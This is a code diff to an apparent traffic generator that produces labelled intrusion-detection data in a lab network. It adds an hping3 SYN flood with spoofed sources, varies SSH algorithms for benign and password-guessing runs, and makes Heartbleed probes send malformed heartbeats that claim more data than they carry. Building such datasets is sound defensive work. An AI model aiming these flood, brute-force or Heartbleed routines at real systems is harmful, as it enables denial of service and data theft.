@@ -15,7 +15,7 @@ import type { Random } from '../random.js';
 import { ATTACKER_IP, CLIENT_IPS, SRV_IP, TLS_PATCHED_IP, TLS_VULNERABLE_IP } from './lab-net.js';
 import { LAB_SSH_PASSWORD, LAB_SSH_USER, WEBAPP_PASSWORD, WEBAPP_USER } from './lab-services.js';
 import {
-  REC_ALERT, REC_APPLICATION_DATA, REC_CHANGE_CIPHER_SPEC, REC_HANDSHAKE, REC_HEARTBEAT, RecordSplitter, clientFinish, clientHello, heartbeatBody,
+  MAX_FRAGMENT, REC_ALERT, REC_APPLICATION_DATA, REC_CHANGE_CIPHER_SPEC, REC_HANDSHAKE, REC_HEARTBEAT, RecordSplitter, clientFinish, clientHello, heartbeatBody,
   randomBytes, record, type TlsRecord,
 } from './tls-records.js';
 
@@ -32,7 +32,7 @@ export interface ScenarioContext {
 /** Scenario → label for the scenarios this module implements. */
 export const ATTACK_MODULE_SCENARIOS: Record<string, string> = {
   datagrams: 'BENIGN', sshpass: 'BENIGN', webapp: 'BENIGN', tlsapp: 'BENIGN', vnc: 'BENIGN',
-  udpflood: 'UDP Flood', sshguess: 'SSH-Patator', webbrute: 'Web Attack - Brute Force', sqli: 'Web Attack - SQL Injection', xss: 'Web Attack - XSS',
+  udpflood: 'UDP Flood', synflood: 'SYN Flood', sshguess: 'SSH-Patator', webbrute: 'Web Attack - Brute Force', sqli: 'Web Attack - SQL Injection', xss: 'Web Attack - XSS',
   heartbleed: 'Heartbleed', vncscan: 'VNC brute force',
 };
 
@@ -106,6 +106,26 @@ async function udpFlood(ctx: ScenarioContext): Promise<void> {
   }
 }
 
+/**
+ * SYN flood with hping3: bursts of SYNs (sometimes with payload) to an open or closed port, from the
+ * attacker's address or from random spoofed sources (the server's replies to those have no route in
+ * its namespace, so the capture holds the one-way SYNs a spoofed flood leaves).
+ */
+async function synFlood(ctx: ScenarioContext): Promise<void> {
+  const { rng } = ctx;
+  while (Date.now() < ctx.end - 300) {
+    const left = ctx.end - Date.now();
+    const intervalUs = pickOf(rng, [50, 100, 200, 500, 1000, 3000]);
+    const count = Math.max(50, Math.min(300 + rng.int(5000), Math.floor((Math.min(left, 4000) * 1000) / intervalUs)));
+    const port = pickOf(rng, ['80', '80', '22', '443', String(1 + rng.int(65535)), `++${1 + rng.int(60000)}`]);
+    const source = rng.next() < 0.6 ? ['--rand-source'] : ['-a', ATTACKER_IP];
+    const data = rng.next() < 0.7 ? 0 : rng.int(1200);
+    await hping(['-S', '-q', '-n', ...source, '-c', String(count), '-i', `u${intervalUs}`, '-d', String(data), '-p', port, '-s', String(1024 + rng.int(60000)),
+      '-w', String(pickOf(rng, [64, 512, 5840, 29200, 64240])), SRV_IP], left + 2000);
+    await sleep(rng.int(1500));
+  }
+}
+
 /** Benign one-way and low-rate datagrams: syslog, SNMP traps, statsd, NetBIOS, SSDP, mDNS, NAT keepalives. */
 async function datagrams(ctx: ScenarioContext): Promise<void> {
   const { rng } = ctx;
@@ -122,17 +142,29 @@ async function datagrams(ctx: ScenarioContext): Promise<void> {
 let pwFiles = 0;
 
 /**
+ * Key exchange and cipher for one ssh run: clients and servers of other versions negotiate other
+ * algorithms (OpenSSH 9's default hybrid KEX alone adds ~1 KB per direction), so every ssh scenario,
+ * benign or not, draws them the same way.
+ */
+export function sshAlgorithmOptions(rng: Random): string[] {
+  const kex = pickOf(rng, ['sntrup761x25519-sha512@openssh.com', 'curve25519-sha256', 'curve25519-sha256', 'ecdh-sha2-nistp256', 'diffie-hellman-group14-sha256', 'diffie-hellman-group16-sha512']);
+  const cipher = pickOf(rng, ['chacha20-poly1305@openssh.com', 'aes128-ctr', 'aes256-ctr', 'aes128-gcm@openssh.com', 'aes256-gcm@openssh.com']);
+  const mac = pickOf(rng, ['umac-64-etm@openssh.com', 'hmac-sha2-256-etm@openssh.com', 'hmac-sha2-256', 'hmac-sha1']);
+  return ['-o', `KexAlgorithms=${kex}`, '-o', `Ciphers=${cipher}`, '-o', `MACs=${mac}`];
+}
+
+/**
  * One run of the real OpenSSH client with password authentication only, answering each password
  * prompt from `passwords` through the askpass helper (after `delaySec`, as a typist or a throttled
  * tool would), resolving when ssh exits.
  */
-function sshPassword(keyDir: string, local: string, user: string, passwords: string[], command: string, delaySec: number): Promise<void> {
+function sshPassword(rng: Random, keyDir: string, local: string, user: string, passwords: string[], command: string, delaySec: number): Promise<void> {
   const list = path.join(keyDir, `pw-${process.pid}-${pwFiles++}`);
   fs.writeFileSync(list, `${passwords.join('\n')}\n`);
   return new Promise((resolve) => {
     const done = (): void => { fs.rmSync(list, { force: true }); fs.rmSync(`${list}.n`, { force: true }); resolve(); };
     const p = spawn('ssh', ['-b', local, '-p', '22', '-T', '-o', 'StrictHostKeyChecking=no', '-o', `UserKnownHostsFile=${path.join(keyDir, 'known_hosts')}`,
-      '-o', 'ConnectTimeout=5', '-o', 'PreferredAuthentications=password', '-o', 'PubkeyAuthentication=no', '-o', `NumberOfPasswordPrompts=${passwords.length}`,
+      '-o', 'ConnectTimeout=5', ...sshAlgorithmOptions(rng), '-o', 'PreferredAuthentications=password', '-o', 'PubkeyAuthentication=no', '-o', `NumberOfPasswordPrompts=${passwords.length}`,
       '-l', user, SRV_IP, command], {
       stdio: 'ignore',
       env: { ...process.env, DISPLAY: ':0', SSH_ASKPASS: path.join(keyDir, 'askpass.sh'), SSH_ASKPASS_REQUIRE: 'force', DMLAB_PW_LIST: list, DMLAB_PW_STATE: `${list}.n`, DMLAB_PW_DELAY: delaySec.toFixed(2) },
@@ -160,7 +192,7 @@ async function sshGuess(ctx: ScenarioContext): Promise<void> {
     const between = pickOf(rng, [0, 200, 1000, 3000]);
     return ctx.loop(() => {
       const prompts = 1 + rng.int(6);
-      return sshPassword(ctx.keyDir, ATTACKER_IP, pickOf(rng, USER_NAMES), Array.from({ length: prompts }, () => pickOf(rng, COMMON_PASSWORDS)), 'true', delay * (0.5 + rng.next()));
+      return sshPassword(rng, ctx.keyDir, ATTACKER_IP, pickOf(rng, USER_NAMES), Array.from({ length: prompts }, () => pickOf(rng, COMMON_PASSWORDS)), 'true', delay * (0.5 + rng.next()));
     }, () => rng.int(between + 1));
   });
 }
@@ -172,7 +204,7 @@ async function sshPass(ctx: ScenarioContext): Promise<void> {
     const passwords = rng.next() < 0.15 ? [`${LAB_SSH_PASSWORD.slice(0, -1)}x`, LAB_SSH_PASSWORD] : [LAB_SSH_PASSWORD];
     const out = Math.round(Math.exp(4 + rng.next() * 9));
     const cmd = pickOf(rng, [`head -c ${out} /dev/zero`, `head -c ${out} /dev/zero; sleep ${(rng.int(40) / 10).toFixed(1)}; echo done`, 'uptime', 'ls -la /', `sleep ${(rng.int(60) / 10).toFixed(1)}`]);
-    return sshPassword(ctx.keyDir, CLIENT_IPS[w % CLIENT_IPS.length], LAB_SSH_USER, passwords, cmd, 0.4 + rng.next() * 2.5);
+    return sshPassword(rng, ctx.keyDir, CLIENT_IPS[w % CLIENT_IPS.length], LAB_SSH_USER, passwords, cmd, 0.4 + rng.next() * 2.5);
   }, () => 300 + rng.int(3000)));
 }
 
@@ -374,7 +406,8 @@ async function heartbleed(ctx: ScenarioContext): Promise<void> {
       const version = pickOf(rng, [0x0301, 0x0302, 0x0303]);
       const gap = pickOf(rng, [0, 50, 300, 1000]);
       for (let i = 0; i < beats && !c.closed && Date.now() < ctx.end; i++) {
-        const carried = rng.next() < 0.4 ? 0 : rng.int(17);
+        // most probes carry a few bytes; some pad the request with bulk payload (still claiming more than they carry)
+        const carried = rng.next() < 0.25 ? rng.int(Math.min(claimed, MAX_FRAGMENT - 40)) : rng.next() < 0.5 ? 0 : rng.int(17);
         c.sock.write(record(REC_HEARTBEAT, heartbeatBody(1, claimed, randomBytes(rng, carried), rng.next() < 0.5 ? 0 : 16, rng), version));
         await c.waitFor((r) => r.type === REC_HEARTBEAT, 300 + rng.int(700));
         await sleep(rng.int(gap + 1));
@@ -488,7 +521,7 @@ async function vncUsers(ctx: ScenarioContext): Promise<void> {
 /** Runs one of this module's scenarios; false if the name is not one of them. */
 export async function runAttackModuleScenario(scenario: string, ctx: ScenarioContext): Promise<boolean> {
   const table: Record<string, (c: ScenarioContext) => Promise<void>> = {
-    udpflood: udpFlood, datagrams, sshguess: sshGuess, sshpass: sshPass, webbrute: webBrute, sqli: sqlInjection, xss: crossSiteScripting, webapp: webAppUsers,
+    udpflood: udpFlood, synflood: synFlood, datagrams, sshguess: sshGuess, sshpass: sshPass, webbrute: webBrute, sqli: sqlInjection, xss: crossSiteScripting, webapp: webAppUsers,
     heartbleed, tlsapp: tlsApp, vncscan: vncScan, vnc: vncUsers,
   };
   const fn = table[scenario];
